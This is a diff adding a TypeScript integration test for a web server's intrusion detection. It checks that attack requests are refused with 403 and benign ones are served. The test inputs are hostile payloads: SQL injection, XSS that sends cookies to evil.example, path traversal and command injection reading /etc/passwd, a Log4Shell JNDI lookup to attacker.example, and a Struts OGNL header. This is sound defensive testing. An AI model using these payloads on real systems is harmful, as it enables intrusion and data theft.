@@ -1,0 +1,186 @@
+/**
+ * The IDS in a real server ([security.ids], issue 5 item 4): attacks in
+ * the path, query, headers and body are refused with 403 before they reach
+ * an upstream, benign requests are served, custom rules log or block, and
+ * a client's score raises an alert and then a ban held by every worker.
+ * The detection itself is tested case by case in ids.test.ts.
+ */
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import http from 'node:http';
+import net from 'node:net';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { listenLocal, proxyVhost, rawRequest, request, TestServer, waitFor } from '../support/harness.js';
+
+describe('intrusion detection', () => {
+  const server = new TestServer();
+  const seen: { url: string; body: string }[] = [];
+  const upstream = http.createServer((req, res) => {
+    let body = '';
+    req.setEncoding('utf8');
+    req.on('data', (chunk: string) => (body += chunk));
+    req.on('end', () => {
+      seen.push({ url: req.url ?? '', body });
+      res.end(`upstream read ${body.length}\n`);
+    });
+  });
+
+  before(async () => {
+    writeFileSync(path.join(server.dir, 'index.html'), 'ok\n');
+    const upstreamPort = await listenLocal(upstream);
+    await server.start(`[security.ids]
+enabled = true
+alert_threshold = 5
+block_threshold = 20
+
+[[security.ids.rules]]
+name = "no-wp"
+pattern = "/wp-(admin|login)"
+severity = "low"
+action = "block"
+
+[[security.ids.rules]]
+name = "old-client"
+pattern = "^curl/7\\\\.1"
+severity = "low"
+action = "log"
+
+[security.ddos]
+whitelist = ["127.0.0.1"]
+ban_seconds = 60
+
+[[vhosts]]
+domains = ["site.test"]
+root = "${server.dir}"
+
+${proxyVhost('app.test', upstreamPort)}`);
+  });
+  after(async () => {
+    await server.stop();
+    upstream.close();
+  });
+
+  const get = (urlPath: string, headers: Record<string, string> = {}, from = '127.0.0.1') =>
+    request(server.port, { path: urlPath, headers: { Host: 'app.test', ...headers }, localAddress: from });
+
+  const attacks: [string, string, Record<string, string>][] = [
+    ['SQL injection in the query', "/items?id=1'%20OR%20'1'%3D'1", {}],
+    ['UNION SELECT in the query', '/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--', {}],
+    ['XSS in the query', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', {}],
+    ['an event handler in the query', '/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', {}],
+    ['path traversal, encoded', '/download?file=..%2F..%2F..%2Fetc%2Fpasswd', {}],
+    ['command injection in the query', '/ping?host=127.0.0.1%3Bcat%20/etc/passwd', {}],
+    ['SQL injection in the User-Agent', '/', { 'User-Agent': "' OR 1=1--" }],
+    ['a custom block rule', '/wp-login.php', {}],
+    ['a Log4Shell lookup in any header', '/', { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' }],
+    ['an OGNL expression in Content-Type (Struts, CVE-2017-5638)', '/upload', { 'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" }],
+  ];
+  for (const [what, urlPath, headers] of attacks) {
+    it(`refuses ${what} with 403 before the upstream sees it`, async () => {
+      const before = seen.length;
+      const response = await get(urlPath, headers);
+      assert.equal(response.status, 403);
+      assert.equal(response.headers.connection, 'close');
+      assert.equal(seen.length, before, 'the upstream was not asked');
+    });
+  }
+
+  it('audits the match and the refusal, with the rule and where it matched', async () => {
+    await get('/items?id=1%20UNION%20SELECT%20null,null--', {}, '127.0.0.60');
+    const match = await waitFor('ids.match', () => server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.60'));
+    assert.match(String(match.detail), /rule=sqli .*location=query .*action=block/);
+    await waitFor('the refusal', () => server.logLines().find((line) => line.audit === 'request.ids_blocked' && line.clientIp === '127.0.0.60'));
+  });
+
+  const benign: [string, Record<string, string>][] = [
+    ['/authors?name=O%27Reilly', {}],
+    ['/search?q=select%20the%20best%20union%20jobs', {}],
+    ['/docs/README.md', {}],
+    ['/blog/2024/01/a-post.md?ref=home', {}],
+    ['/search?q=rock%20%26%20roll%20and%20Tom%20%26%20Jerry', {}],
+    ['/cart?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc', {}],
+    ['/', { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' }],
+    ['/', { Referer: 'https://www.google.com/search?q=miwidothttp+select+union', Cookie: 'session=abc123; theme=dark' }],
+  ];
+  for (const [urlPath, headers] of benign) {
+    it(`serves ${urlPath}${Object.keys(headers).length > 0 ? ` with ${Object.keys(headers).join(', ')}` : ''}`, async () => {
+      const response = await get(urlPath, headers);
+      assert.equal(response.status, 200, response.body);
+    });
+  }
+
+  it('judges a body before the upstream reads a byte of it', async () => {
+    const before = seen.length;
+    const form = 'user=admin&comment=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E';
+    const refused = await request(server.port, {
+      method: 'POST',
+      path: '/comments',
+      headers: { Host: 'app.test', 'Content-Type': 'application/x-www-form-urlencoded' },
+      body: form,
+    });
+    assert.equal(refused.status, 403);
+    const json = await request(server.port, {
+      method: 'POST',
+      path: '/api',
+      headers: { Host: 'app.test', 'Content-Type': 'application/json' },
+      body: JSON.stringify({ query: "x' UNION SELECT password FROM users --" }),
+    });
+    assert.equal(json.status, 403);
+    assert.equal(seen.length, before, 'neither body reached the upstream');
+    const fine = await request(server.port, {
+      method: 'POST',
+      path: '/api',
+      headers: { Host: 'app.test', 'Content-Type': 'application/json' },
+      body: JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }),
+    });
+    assert.equal(fine.status, 200);
+    assert.equal(seen.at(-1)?.body, JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }), 'the held body arrives whole');
+  });
+
+  it('a large benign body streams through whole after its first bytes are judged', async () => {
+    const body = 'lorem ipsum dolor sit amet '.repeat(10_000);
+    const response = await request(server.port, { method: 'POST', path: '/upload', headers: { Host: 'app.test', 'Content-Type': 'text/plain' }, body });
+    assert.equal(response.status, 200);
+    assert.equal(response.body, `upstream read ${body.length}\n`);
+  });
+
+  it('a log rule serves the request and audits the match', async () => {
+    const response = await get('/', { 'User-Agent': 'curl/7.15.5' }, '127.0.0.61');
+    assert.equal(response.status, 200);
+    const match = await waitFor('the log match', () => server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.61'));
+    assert.match(String(match.detail), /rule=old-client .*action=log/);
+  });
+
+  it("a client's score raises an alert, then a ban at every worker", async () => {
+    const client = '127.0.0.62';
+    let refusedAtAccept = false;
+    for (let i = 0; i < 20 && !refusedAtAccept; i++) {
+      const answer = await new Promise<string>((resolve) => {
+        const socket = net.connect({ port: server.port, host: '127.0.0.1', localAddress: client });
+        let text = '';
+        socket.on('connect', () => socket.write(`GET /?q=%3Cscript%3Ealert(${i})%3C/script%3E HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n`));
+        socket.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
+        socket.on('error', () => undefined);
+        socket.on('close', () => resolve(text));
+      });
+      refusedAtAccept = answer === '';
+      if (!refusedAtAccept) assert.match(answer, /^HTTP\/1\.1 403 /);
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+    assert.ok(refusedAtAccept, 'banned: refused at accept');
+    await waitFor('the alert', () => server.logLines().find((line) => line.audit === 'ids.alert' && line.clientIp === client));
+    const ban = await waitFor('the ban', () => server.logLines().find((line) => line.audit === 'ban.added' && line.clientIp === client));
+    assert.equal(ban.source, 'ids');
+  });
+
+  it('a whitelisted client is never banned, however it scores', async () => {
+    for (let i = 0; i < 10; i++) assert.equal((await get('/?q=%3Cscript%3Ealert(1)%3C/script%3E')).status, 403);
+    assert.equal((await get('/')).status, 200);
+  });
+
+  it('protects a static vhost as well as a proxied one', async () => {
+    const answer = await rawRequest(server.port, "GET /?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\n\r\n");
+    assert.match(answer, /^HTTP\/1\.1 403 /);
+  });
+});
